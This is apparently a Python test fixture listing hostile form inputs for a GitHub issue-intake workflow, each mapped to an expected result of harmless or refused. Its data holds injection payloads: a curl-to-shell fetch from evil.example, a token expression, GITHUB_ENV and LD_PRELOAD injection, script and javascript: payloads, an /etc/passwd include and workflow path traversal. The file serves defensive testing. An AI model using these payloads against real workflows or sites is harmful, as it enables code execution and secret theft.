"""Filled forms: the text of an issue that anybody can open, read by a workflow."""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.inputs import COMPANY, Expected, Fault, Harmless, Input, Refused

_LEAST: Mapping[str, str] = {"Job title": "Engineer", "Employer": "Acme", "Description": "The work."}
_SHELL = {
    "substitution": "$(curl https://evil.example/x | sh)",
    "expression": "${{ github.token }}",
    "environment": "GITHUB_ENV<<EOF LD_PRELOAD=/tmp/x.so EOF",
    "markup": "<img src=x onerror=alert(1)>",
    "mention": "@octocat @github/security #1 GH-1",
    "front-matter": "--- title: x",
}


def _label(name: str) -> str:
    return name.replace("_", " ")


def form(name: str, expected: Expected, **answers: str) -> Input:
    """A form with these answers; names of fields have underscores for spaces."""
    filled = {**_LEAST, "Address name": name, **{_label(key): said for key, said in answers.items()}}
    return Input(name, expected, form=filled, url=f"jobs/{COMPANY}/{name}/")


def _told(code: str, label: str) -> Refused:
    """A form has fields where a file has lines."""
    return Refused((Fault(code, 1, label),))


def _whole(name: str, issue: str, code: str) -> Input:
    return Input(name, _told(code, ""), form=issue)


_BODIES = {
    "fence-early": "```\n```\n### Employer\n\nBeta\n```",
    "fence-open": "```sh\n$(id)",
    "fence-long": "`" * 50 + "\n</details>\n$(id)",
    "commands": "::set-output name=x::y\n::error file=a::b\n##[command]id",
    "script": "<script>alert(1)</script>",
    "snippet": '--8<-- "/etc/passwd"',
}

INPUTS: tuple[Input, ...] = (
    *(form(f"form-title-{name}", Harmless(title=evil), Job_title=evil) for name, evil in _SHELL.items()),
    form(
        "form-title-heading",
        Refused(
            (
                Fault("intake-empty", 1, "Job title"),
                Fault("intake-empty", 1, "Employer"),
                Fault("intake-twice", 1, "Employer"),
            )
        ),
        Job_title="### Employer",
    ),
    *(form(f"form-body-{name}", Harmless(), Description=body) for name, body in _BODIES.items()),
    form(
        "form-subject",
        Harmless(("x&bcc=c@evil.example",), ("mailto:a@b.example?subject=x%26bcc%3Dc%40evil.example",)),
        Apply_by_email="a@b.example",
        Subject_of_the_email="x&bcc=c@evil.example",
    ),
    form("form-mail", _told("not-an-email", "Apply by email"), Apply_by_email="a@b.example?bcc=c@evil.example"),
    form("form-address", _told("not-a-url", "Apply on the web"), Apply_on_the_web="javascript:alert(1)"),
    form(
        "form-placeholder", _told("unknown-placeholder", "Subject of the email"), Subject_of_the_email="{0.__class__}"
    ),
    form("form-slug-path", _told("not-an-id", "Address name"), Address_name="../../../.github/workflows/x"),
    form("form-slug-taken", _told("intake-exists", "Address name"), Address_name="kernel-engineer"),
    form("form-employer", _told("intake-unlisted", "Employer"), Employer="../../x"),
    form("form-number", _told("not-a-number", "Number of openings"), Number_of_openings="$(id)"),
    form("form-pay", _told("intake-pay", "Pay"), Pay="`id`"),
    form("form-hidden", _told("hidden-character", "Job title"), Job_title="Engi\u202eneer"),
    form("form-hidden-pile", _told("stacked-marks", "Summary"), Summary="E" + "\u0301" * 9),
    form("form-long", _told("body-too-large", "Description"), Description="a" * 40_000),
    form("form-brackets", _told("body-too-dense", "Description"), Description="[" * 500),
    form("form-heading-twice", Harmless(("Employer",)), Description="The work.\n\n### Employer\n\nBeta"),
    _whole("form-none", "::set-output name=x::y", "intake-no-form"),
    _whole("form-empty", "", "intake-no-form"),
    _whole("form-large", "### Job title\n\n" + "a" * 70_000, "intake-too-large"),
)
